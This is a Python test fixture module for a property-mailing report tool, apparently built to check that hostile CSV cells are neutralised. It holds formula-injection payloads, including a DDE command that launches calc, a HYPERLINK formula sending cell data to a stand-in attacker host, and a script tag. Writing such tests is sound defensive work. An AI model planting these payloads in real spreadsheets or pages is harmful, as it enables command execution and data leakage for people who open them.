"""A job with something in every part of the report, including hostile cells."""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import polars as pl
import pytest
from sqlalchemy import text

from propmail import synth
from propmail.db import connect
from propmail.inputs import Inputs
from propmail.job import JobResult, run_job
from propmail.settings import load_rules
from tests.db.helpers import MONTH1, MONTH2

# Cells a spreadsheet would run as formulas, and markup a page would run as code.
HOSTILE = {
    "LocationPrimaryId": "=cmd|' /C calc'!A0",
    "OwnerName": '=HYPERLINK("http://attacker.invalid/?leak="&A1,"click")',
    "LocationAddress1": "+1 EVIL ST",
    "LocationCity": "-2+3",
    "LocationCounty": "@SUM(A1:A9)",
    "LocationGrantor": "<script>alert(1)</script>",
    "OwnerAddress1": "",  # rejected: the owner key would be empty
}


@dataclass
class Job:
    result: JobResult
    upload: Path
    db_url: str


def write_upload(folder: Path) -> Path:
    good = synth.upload(120, seed=5)
    hostile = pl.DataFrame({c: [HOSTILE.get(c, good[c][0])] for c in good.columns})
    duplicate = good.head(1).with_columns(pl.lit("ANOTHER OWNER").alias("OwnerName"))
    path = folder / "upload.csv"
    pl.concat([good, hostile, duplicate]).write_csv(path)
    return path


def write_niche(folder: Path, upload: Path) -> Path:
    frame = pl.read_csv(upload, infer_schema=False).head(10)
    niche = frame.select("LocationPrimaryId", "LocationAddress1", "LocationZip")
    stray = pl.DataFrame(
        {
            "LocationPrimaryId": ["@NOPE", None],
            "LocationAddress1": ["=EVIL()", "1 NOWHERE LN"],
            "LocationZip": ["24016", "24016"],
        }
    )
    path = folder / "Liens.csv"
    pl.concat([niche, stray]).write_csv(path)
    return path


@pytest.fixture(scope="module")
def loaded_db(tmp_path_factory: pytest.TempPathFactory) -> tuple[str, Path, Path]:
    """A database holding the upload, then with a few list codes changed behind propmail."""
    folder = tmp_path_factory.mktemp("report")
    upload = write_upload(folder)
    niche = write_niche(folder, upload)
    url = f"sqlite:///{folder / 'propmail.db'}"
    backend = connect(url)
    backend.init({40: "Roanoke"}, load_rules())
    run_job(Inputs.gather(upload, [f"Liens={niche}"]), 40, backend=backend, now=MONTH1)
    with backend.engine.begin() as conn:
        conn.execute(
            text(
                'UPDATE "Location" SET "PriorityCode" = \'=LEGACY\' '
                "WHERE \"PrimaryId\" IN ('000000000002', '000000000003')"
            )
        )
    backend.dispose()
    return url, upload, niche


@pytest.fixture(scope="module")
def dry_job(loaded_db: tuple[str, Path, Path]) -> Job:
    url, upload, niche = loaded_db
    result = run_job(
        Inputs.gather(upload, [f"Liens={niche}"]), 40, db_url=url, now=MONTH2, dry_run=True
    )
    return Job(result, upload, url)


@pytest.fixture(scope="module")
def load_job(tmp_path_factory: pytest.TempPathFactory) -> Job:
    folder = tmp_path_factory.mktemp("report_load")
    upload = write_upload(folder)
    niche = write_niche(folder, upload)
    url = f"sqlite:///{folder / 'propmail.db'}"
    backend = connect(url)
    backend.init({40: "Roanoke"}, load_rules())
    backend.dispose()
    result = run_job(Inputs.gather(upload, [f"Liens={niche}"]), 40, db_url=url, now=MONTH1)
    return Job(result, upload, url)
